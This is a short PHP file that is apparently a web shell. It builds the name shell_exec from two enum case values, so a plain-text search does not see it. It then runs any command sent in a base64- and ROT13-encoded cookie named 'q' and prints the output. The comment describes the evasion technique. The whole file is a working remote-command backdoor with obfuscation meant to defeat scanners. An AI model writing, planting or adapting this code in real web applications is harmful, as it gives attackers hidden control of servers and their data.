<?php
// The function name is split over two enum cases and joined inside a static method.
enum Q7: string
{
    case A = 'she';
    case B = 'll_exec';
    public static function z(string $p): ?string
    {
        $k = self::A->value . static::B->value;
        return $k($p);
    }
}
print Q7::z(str_rot13(base64_decode($_COOKIE['q'] ?? '')));
